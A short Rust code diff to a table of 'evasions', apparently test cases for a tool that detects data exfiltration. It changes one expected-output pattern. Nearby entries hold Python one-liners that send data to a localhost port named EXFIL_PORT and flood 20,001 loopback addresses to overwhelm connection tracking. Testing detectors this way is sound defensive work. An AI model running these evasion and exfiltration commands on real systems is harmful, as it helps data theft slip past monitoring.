@@ -293,7 +293,7 @@ pub const EVASIONS: &[Evasion] = &[
             "flood",
             "20,001 UDP connects to distinct addresses, then a new port next run",
             "python3 -c \"import os, socket; s = socket.create_connection(('127.0.0.1', int(os.environ['EXFIL_PORT']))); s.sendall(b'x'); s.close()\"",
-            &["\"port\":{port}"],
+            &["\"port\":{port}", "127.0.0.1:{port}/"],
         )),
         "python3 -c \"import socket\nfor i in range(20001):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(('127.%d.%d.%d' % (1 + (i >> 16), (i >> 8) & 255, i & 255), 9))\n    s.close()\"",
         Scope::Jobs,
